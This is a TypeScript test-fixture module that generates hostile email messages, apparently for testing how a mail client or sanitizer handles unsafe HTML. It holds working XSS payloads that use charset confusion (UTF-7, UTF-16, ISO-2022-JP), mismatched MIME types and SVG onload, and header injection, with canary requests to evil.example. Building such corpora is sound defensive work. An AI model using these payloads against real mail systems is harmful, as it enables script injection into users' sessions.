/**
 * Mails whose HTML, headers or parts try to run a script, to ask a server, to draw over the page or to leave their frame:
 * classes of tricks, ten cases each. What works names its case: it sets `pwned` on the page, asks evil.example, opens a
 * dialog, or leads away.
 */
import { b64, htmlTricks, type Trick } from './hostile-html.ts';

export interface HostileMail {
  /** `class-case`. */
  readonly name: string;
  readonly octets: Buffer;
}

/** Texts in encodings that a browser might read otherwise than whoever cleans them. */
function encodedMails({ js, url }: Trick): readonly Buffer[] {
  const page = `<p>x</p><script>${js}</script><img src="${url}">`;
  const utf7 = page.replace(/</g, '+ADw-').replace(/>/g, '+AD4-').replace(/"/g, '+ACI-');
  const html = (charset: string, octets: Buffer): Buffer =>
    Buffer.concat([
      head(`text/html; charset=${charset}`, 'base64'),
      Buffer.from(octets.toString('base64')),
      crlf,
    ]);
  return [
    html('utf-7', Buffer.from(utf7)),
    html('utf-8', Buffer.from(`<meta charset=utf-7>${utf7}`)),
    html('utf-16', Buffer.from(`\ufeff${page}`, 'utf16le')),
    html('utf-16be', Buffer.from(page, 'utf16le').swap16()),
    html('utf-8', Buffer.from(`\ufeff${page}`)),
    html('iso-2022-jp', Buffer.from(page.replace('<script', '\x1b$B\x1b(B<script'))),
    html('hz-gb-2312', Buffer.from(page.replace('<script', '<~\nscript'))),
    html(
      'gb2312',
      Buffer.concat([Buffer.from('<img alt="\xbf', 'latin1'), Buffer.from(`" src=x onerror="${js}">`)]),
    ),
    html('"utf-8"; x="</script>"', Buffer.from(page)),
    html('us-ascii', Buffer.from(page.replace(/</g, '\xbc').replace(/>/g, '\xbe'), 'latin1')),
  ];
}

/** Parts and headers that are something else than they say. */
function mimeMails({ js, url }: Trick): readonly Buffer[] {
  const page = `<script>${js}</script><img src="${url}" onerror="${js}">`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"><script>${js}</script><image href="${url}"/></svg>`;
  const related = (type: string, body: string): Buffer =>
    mixed('related', [
      ['text/html', '<p>x</p><img src="cid:a@evil.example">'],
      [`${type}\r\nContent-ID: <a@evil.example>`, body],
    ]);
  return [
    related('image/svg+xml', svg),
    related('text/html', page),
    related('image/png', svg),
    mixed('mixed', [
      ['text/plain', page],
      ['text/html; name="a.html"\r\nContent-Disposition: inline', page],
    ]),
    mixed('alternative', [
      ['text/plain', 'x'],
      ['text/html', page],
      ['text/html', `${page}<p>second</p>`],
    ]),
    mixed('mixed', [
      ['message/rfc822', `Subject: <img src=x onerror=${js}>\r\nContent-Type: text/html\r\n\r\n${page}`],
    ]),
    mixed('mixed', [
      ['text/html', page],
      [`image/png; name="<img src=x onerror=${js}>.png"\r\nContent-Disposition: attachment`, svg],
    ]),
    Buffer.concat([head('text/html\r\nContent-Type: text/plain', '8bit'), Buffer.from(page), crlf]),
    Buffer.concat([head('text/plain\r\nX-Content-Type: text/html', '8bit'), Buffer.from(page), crlf]),
    Buffer.concat([
      head('application/xhtml+xml', '8bit'),
      Buffer.from(`<html xmlns="http://www.w3.org/1999/xhtml">${page}</html>`),
      crlf,
    ]),
  ];
}

/** Headers that the page shows. */
function headerMails({ js, url }: Trick): readonly Buffer[] {
  const bad = `<img src=${url} onerror=${js}>`;
  const word = `=?utf-8?B?${b64(bad)}?=`;
  const mail = (lines: readonly string[]): Buffer =>
    Buffer.from([...lines, 'Content-Type: text/plain', '', bad, ''].join('\r\n'));
  return [
    mail([`Subject: ${bad}`, 'From: a@evil.example']),
    mail([`Subject: ${word}`, 'From: a@evil.example']),
    mail(['Subject: x', `From: "${bad.replace(/"/g, '')}" <a@evil.example>`]),
    mail(['Subject: x', `From: ${word} <a@evil.example>`]),
    mail([
      'Subject: x',
      `To: ${word} <b@evil.example>`,
      `Cc: ${word} <c@evil.example>`,
      'From: a@evil.example',
    ]),
    mail(['Subject: =?utf-8?Q?x=0D=0AContent-Type:_text/html?=', 'From: a@evil.example']),
    mail([`Subject: \u202e${word}`, 'From: a@evil.example']),
    mail(['Subject: x', `Message-ID: <"><script>${js}</script>@evil.example>`, 'From: a@evil.example']),
    mail([
      'Subject: x',
      `Date: <script>${js}</script>`,
      `Reply-To: ${word} <javascript:${js}@evil.example>`,
      'From: a@evil.example',
    ]),
    mail([`Subject: ${'<b>'.repeat(2000)}${bad}`, 'From: javascript:alert(1)']),
  ];
}

const crlf = Buffer.from('\r\n');

function head(type: string, encoding: string): Buffer {
  const lines = [
    'From: a@evil.example',
    'Subject: hostile',
    `Content-Type: ${type}`,
    `Content-Transfer-Encoding: ${encoding}`,
  ];
  return Buffer.from(`${lines.join('\r\n')}\r\n\r\n`);
}

function mixed(subtype: string, parts: readonly (readonly [string, string])[]): Buffer {
  const body = parts.map(([type, text]) => `--b\r\nContent-Type: ${type}\r\n\r\n${text}\r\n`).join('');
  const lines = [
    'From: a@evil.example',
    'Subject: hostile',
    'MIME-Version: 1.0',
    `Content-Type: multipart/${subtype}; boundary=b`,
  ];
  return Buffer.from(`${lines.join('\r\n')}\r\n\r\n${body}--b--\r\n`);
}

function htmlMail(html: string): Buffer {
  const body = `<p>before</p>${html}<p>after</p>`;
  const lines = Buffer.from(body).toString('base64').replace(/.{76}/g, '$&\r\n');
  return Buffer.concat([head('text/html; charset=utf-8', 'base64'), Buffer.from(lines), crlf]);
}

function trickOf(name: string): Trick {
  // No quotation mark, no space, no angle bracket: it stands anywhere.
  const js = `top.pwned=parent.pwned=self.pwned=/${name}/.source;alert(1)`;
  return { js, url: `http://evil.example/${name}` };
}

export const hostileClasses: readonly string[] = [...Object.keys(htmlTricks), 'encoding', 'mime', 'header'];

/** Every class with its cases, in order. */
export function hostileMails(): HostileMail[] {
  return hostileClasses.flatMap((kind) => {
    return Array.from({ length: 10 }, (_, i) => ({ name: `${kind}-${i}`, octets: mailOf(kind, i) }));
  });
}

function mailOf(kind: string, i: number): Buffer {
  const trick = trickOf(`${kind}-${i}`);
  switch (kind) {
    case 'encoding':
      return encodedMails(trick)[i]!;
    case 'mime':
      return mimeMails(trick)[i]!;
    case 'header':
      return headerMails(trick)[i]!;
    default:
      return htmlMail(htmlTricks[kind]!(trick)[i]!);
  }
}
